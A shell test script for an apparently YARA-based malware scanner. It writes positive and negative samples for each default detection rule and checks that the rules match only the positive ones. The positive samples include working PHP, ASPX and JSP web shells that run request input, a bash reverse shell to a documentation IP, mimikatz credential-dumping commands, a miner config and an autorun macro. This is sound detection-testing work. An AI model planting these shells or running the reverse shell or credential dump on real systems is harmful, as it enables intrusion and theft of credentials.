#!/bin/sh
# yara_default_rules.sh SEAWALL - every shipped rule in rules/default matches its positive
# sample and not its negative one. Samples are harmless text written here; the EICAR test
# string is assembled from pieces so the repository never holds it whole.
SW=${1:?usage: yara_default_rules.sh SEAWALL}
cd "$(dirname "$0")/../.." || exit 2
T=$(mktemp -d)
trap 'rm -rf "$T"' EXIT INT TERM
pass=0 fail=0
ok() { pass=$((pass + 1)); echo "ok - $*"; }
nok() { fail=$((fail + 1)); echo "not ok - $*"; }

mkdir -p "$T/pos" "$T/neg"
# rule positive-sample negative-sample (file names; contents below)
w() { printf '%s\n' "$2" >"$T/$1"; }

w pos/seawall_webshell_php_exec_input.php '<?php if (isset($_POST["c"])) { system($_POST["c"]); } ?>'
w neg/seawall_webshell_php_exec_input.php '<?php $out = system("uptime"); echo htmlspecialchars($_GET["name"]); ?>'
w pos/seawall_webshell_aspx_process_start.aspx '<%@ Page Language="C#" %>
<script runat="server">void Page_Load(){ var p = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + Request.Form["c"]); System.Diagnostics.Process.Start(p); }</script>'
w neg/seawall_webshell_aspx_process_start.aspx '<%@ Page Language="C#" %>
<script runat="server">void Page_Load(){ Label1.Text = Server.HtmlEncode(Request.QueryString["q"]); }</script>'
w pos/seawall_webshell_jsp_runtime_exec.jsp '<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>'
w neg/seawall_webshell_jsp_runtime_exec.jsp '<%@ page import="java.io.*" %><% String n = request.getParameter("name"); out.println(n); %>'
w pos/seawall_ransomware_note.txt 'ATTENTION! All your files have been encrypted.
To get the decryption tool, pay the ransom in Bitcoin. Contact us via Tor Browser at http://example.onion'
w neg/seawall_ransomware_note.txt 'IT notice: laptops now use full-disk encryption. Your files have been encrypted at rest
by BitLocker. Nothing to do on your side.'
w pos/seawall_coinminer_xmrig_config.json '{"autosave": true, "donate-level": 1, "cpu": true,
 "pools": [{"algo": "rx/0", "url": "pool.example.net:3333", "user": "4Abc", "pass": "x"}]}'
w neg/seawall_coinminer_xmrig_config.json '{"name": "portal", "pools": [], "url": "https://portal.example.org/"}'
w pos/seawall_credential_dumper_mimikatz_like.txt 'privilege::debug
sekurlsa::logonpasswords
exit'
w neg/seawall_credential_dumper_mimikatz_like.txt 'Audit note: watch for privilege::debug in command lines.'
w pos/seawall_rat_reverse_shell.sh '#!/bin/sh
bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'
w neg/seawall_rat_reverse_shell.sh '#!/bin/sh
exec bash -i'
w pos/seawall_rat_njrat_like.txt "|'|'|netsh firewall add allowedprogram \"x.exe\" \"x.exe\" ENABLE"
w neg/seawall_rat_njrat_like.txt 'netsh firewall add allowedprogram "backup.exe" "Backup" ENABLE'
w pos/seawall_office_macro_autorun_shell.bas 'Attribute VB_Name = "Module1"
Sub AutoOpen()
    Dim s: Set s = CreateObject("WScript.Shell")
    s.Run "calc.exe"
End Sub'
w neg/seawall_office_macro_autorun_shell.bas 'Attribute VB_Name = "Module1"
Sub AutoOpen()
    MsgBox "Welcome to the city budget workbook"
End Sub'
# EICAR: 68 bytes, assembled from pieces.
p1='X5O!P%@AP[4\PZX54(P^)7CC)7}$'
p2='EICAR-STANDARD-ANTIVIRUS-'
p3='TEST-FILE!$H+H*'
printf '%s%s%s' "$p1" "$p2" "$p3" >"$T/pos/seawall_eicar_test_file.com"
printf '%s%s%s' "$p1" "$p2" "TEST-FILE" >"$T/neg/seawall_eicar_test_file.com"

"$SW" rules check rules/default >"$T/check" 2>&1
if grep -q ', 0 failed, 0 warnings' "$T/check"; then ok "rules/default compiles cleanly"
else nok "rules/default compiles cleanly: $(cat "$T/check")"; fi

"$SW" scan --no-cache --rules rules/default -t 2 -o "$T/eve.json" "$T/pos" "$T/neg" 2>"$T/err"
rc=$?
[ $rc -eq 1 ] && ok "scan exits 1 on matches" || nok "scan exits 1 on matches (got $rc: $(cat "$T/err"))"
python3 - "$T" <<'PY' || fail=$((fail + 1))
import json, os, sys
t = sys.argv[1]
hits = set()
for line in open(os.path.join(t, "eve.json")):
    ev = json.loads(line)
    if ev["event_type"] == "alert":
        hits.add((ev["fileinfo"]["filename"], ev["yara"]["rule"]))
        for k in ("description", "severity", "mitre_att", "author"):
            if k not in ev["yara"]["meta"]:
                print("not ok - %s has no meta %s" % (ev["yara"]["rule"], k))
bad = 0
n = 0
for kind in ("pos", "neg"):
    for name in sorted(os.listdir(os.path.join(t, kind))):
        rule = os.path.splitext(name)[0]
        path = os.path.join(t, kind, name)
        got = {r for (f, r) in hits if f == path}
        n += 1
        if kind == "pos" and rule in got and got <= {rule}:
            print("ok - %s matches its positive sample" % rule)
        elif kind == "neg" and not got:
            print("ok - %s does not match its negative sample" % rule)
        else:
            bad += 1
            print("not ok - %s %s sample: matched %s" % (rule, kind, sorted(got)))
print("default-rules samples: %d checked, %d wrong" % (n, bad))
sys.exit(1 if bad else 0)
PY
echo "yara_default_rules: $pass passed, $fail failed"
[ $fail -eq 0 ]
